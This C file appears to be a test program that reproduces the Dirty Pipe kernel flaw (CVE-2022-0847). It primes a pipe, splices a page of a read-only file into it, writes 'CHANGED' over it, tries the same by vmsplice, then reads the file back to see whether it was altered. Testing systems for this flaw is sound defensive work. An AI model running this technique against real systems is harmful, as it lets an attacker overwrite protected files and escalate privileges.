// Splices a page of a read-only file into a pipe and writes on (Dirty Pipe, CVE-2022-0847); and the
// same by vmsplice.
#include "call.h"
#include <fcntl.h>
#include <sys/uio.h>

int main(void) {
    int pipes[2];
    char buffer[4096] = {0};
    if (pipe(pipes)) return 1;
    // Fill and drain: in a faulty kernel every slot keeps its leave to merge.
    for (int i = 0; i < 16; i++)
        if (write(pipes[1], buffer, sizeof buffer) < 0) return 1;
    for (int i = 0; i < 16; i++)
        if (read(pipes[0], buffer, sizeof buffer) < 0) return 1;
    int file = open("/project/file", O_RDONLY);
    off_t start = 0;
    show("splice", splice(file, &start, pipes[1], NULL, 1, 0));
    show("write on", write(pipes[1], "CHANGED", 7));
    struct iovec part = {buffer, sizeof buffer};
    show("vmsplice", vmsplice(pipes[1], &part, 1, 0));
    char now[9] = {0};
    pread(file, now, 8, 0);
    printf("file: %s", now);
}
